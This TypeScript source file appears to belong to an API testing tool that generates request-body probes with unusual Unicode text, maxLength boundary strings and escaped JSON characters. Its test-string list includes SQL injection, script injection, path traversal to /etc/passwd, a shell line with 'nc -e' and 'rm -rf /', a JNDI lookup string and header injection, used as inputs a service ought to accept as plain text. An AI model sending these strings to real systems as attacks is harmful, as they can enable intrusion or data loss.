import type { Json } from "../spec/json.ts";
import { keyword, numberKeyword, typesOf } from "../spec/schema-node.ts";
import { at, type BodyFamily, type BodyProbe, side } from "./body-probe.ts";
import type { BodySite } from "./body-sites.ts";
import type { OperationContext } from "./operation-context.ts";
import { CHARACTERS, textOfLength } from "./text-values.ts";

/** Room left for the rest of a body when a text is made as long as fits, in bytes. */
const REST_BYTES = 1024;

/** How many of the texts a schema gets where it applies a second time. */
const AGAIN = 3;

const TEXTS: readonly (readonly [string, string])[] = [
  ["chinese", "你好，世界"],
  ["emoji-family", "👩‍👩‍👧‍👦🏳️‍🌈"],
  ["right-to-left", "\u202Eשלום مرحبا\u202C"],
  ["combining", "e\u0301"],
  ["controls", "\u0001\b\t\n\f\r\u001F\u007F"],
  ["nul", "a\u0000b"],
  ["line-separators", "a\u2028b\u2029c"],
  ["byte-order-mark", "\uFEFFa"],
  ["replacement", "\uFFFD\uFFFE"],
  ["last-code-point", "\u{10FFFF}"],
  ["markup", `</script><b a="1">&amp;'`],
  ["quotes", `"\\'\`$\{a}%s%n`],
  ["space", " "],
  ["padded", " a "],
  ["null-word", "null"],
  ["number-word", "0"],
  // What careless filters in front of a service refuse, though it is a text like any other.
  ["query-language", "SELECT * FROM users; DROP TABLE users;-- ' OR '1'='1"],
  ["script", "<script>alert(1)</script> javascript:alert(1) onerror=alert(1)"],
  ["path-like", "../../../../etc/passwd /bin/sh C:\\Windows\\system32"],
  ["shell", "$(cat /etc/passwd); `id` | nc -e && rm -rf / # \u0024{IFS}"],
  ["template", "{{7*7}} \u0024{7*7} #{7*7} <%= 7*7 %> \u0024{jndi:ldap://a.example/x}"],
  ["percent", "100% %00 %2e%2e%2f %zz a%20b"],
  ["header-like", "a\r\nSet-Cookie: a=b\r\n\r\nGET / HTTP/1.1"],
  ["json-like", '{"a":[1,"b"]}'],
  ["address", "https://user@a.example:8080/?a=b&c=d#e mailto:a@b.example"],
  // What only begins or ends in a certain way.
  ["command", "/kick @all"],
  ["formula", "=1+1"],
  ["mention", "@all: come"],
  ["telephone", "+49 170 1234567"],
  ["dash", "-1"],
  ["hash", "#1"],
  ["card-number", "4111111111111111"],
  ["yes-word", "true"],
  ["undefined-word", "undefined"],
  ["program", "setup.exe"],
  ["line-end", "a\n"],
  ["piled-marks", "Z\u0351\u036B\u0343\u036A"],
  ["several-scripts", "Latin кириллица ελληνικά"],
  ["rude", "free money casino viagra 免费 发票 赌博"],
];

/** Texts of every width: counted in code points, neither in bytes nor in UTF-16 units, and never refused for what they say. */
export const unicode: BodyFamily = function* (context): Iterable<BodyProbe> {
  const swept = new Set<string>();
  for (const site of context.sites) {
    if (site.union || !typesOf(site.node).includes("string") || keyword(site.node, "enum") !== undefined) continue;
    const texts = swept.has(site.node.pointer) ? TEXTS.slice(0, AGAIN) : TEXTS;
    swept.add(site.node.pointer);
    for (const [name, text] of texts) yield probe(site, name, text, true, `text may hold any character (${name})`);
    yield* widths(context, site);
    yield* escapes(site);
  }
};

function* widths(context: OperationContext, site: BodySite): Iterable<BodyProbe> {
  const most = numberKeyword(site.node, "maxLength");
  if (most === undefined) return;
  const room = (context.operation.body?.maxBytes ?? 1_000_000) - REST_BYTES;
  const seed = keyword(site.node, "pattern") !== undefined && typeof site.base === "string" ? site.base : "";
  const of = (length: number, fill: string, valid: boolean) =>
    textOfLength(length, seed, (text) => context.sampler.valid(site.node, text) === valid, fill);
  for (const [bytes, character] of CHARACTERS) {
    if (bytes === 1) continue;
    const fits = Math.min(most.value, Math.floor(room / bytes));
    const inside = of(fits, character, true);
    const why = `${fits} characters of ${bytes} bytes keep maxLength ${most.value}, which counts code points`;
    if (inside !== undefined) {
      const kept = { ...probe(site, `maxLength-${bytes}-bytes`, inside, true, why), rule: most.pointer };
      yield { ...kept, covers: [side(most.pointer, "ok")] };
      // Three bytes of one character, divided after the first: who joins pieces of text instead of bytes makes it longer.
      if (bytes === 3 && fits === most.value) yield { ...kept, name: `${kept.name}-split`, splitWithin: character };
    }
    const outside = of(most.value + 1, character, false);
    const because = `${most.value + 1} code points break maxLength ${most.value}`;
    if (outside !== undefined) {
      yield { ...probe(site, `maxLength+1-${bytes}-bytes`, outside, false, because), rule: most.pointer };
    }
  }
  const padded = of(most.value + 1, " ", false);
  if (padded !== undefined) {
    const because = `white space around a text is part of it: ${most.value + 1} code points break maxLength ${most.value}`;
    yield { ...probe(site, "maxLength+1-padded", padded, false, because), rule: most.pointer };
  }
  const pairs = "e\u0301".repeat(Math.ceil((most.value + 1) / 2));
  yield {
    ...probe(site, "maxLength+1-combining", pairs, false, "combining marks are code points"),
    rule: most.pointer,
  };
}

function* escapes(site: BodySite): Iterable<BodyProbe> {
  const spot = "\u{F0000}spot\u{F0000}";
  const written = JSON.stringify(site.wrap(spot));
  for (const [name, escaped, text] of [
    ["escaped", "\\u4f60\\u597d", "你好"],
    ["escaped-pair", "\\ud83d\\uDE00", "😀"],
    ["escaped-solidus", "a\\/b", "a/b"],
  ] as const) {
    yield {
      ...probe(site, name, text, true, "an escaped character is the character"),
      text: written.replace(spot, () => escaped),
    };
  }
}

const probe = (site: BodySite, name: string, value: Json, valid: boolean, because: string): BodyProbe => ({
  family: "unicode",
  name: `${at(site.label)}/unicode/${name}`,
  json: site.wrap(value),
  valid,
  rule: site.node.pointer,
  because: `${at(site.label)}: ${because}`,
});
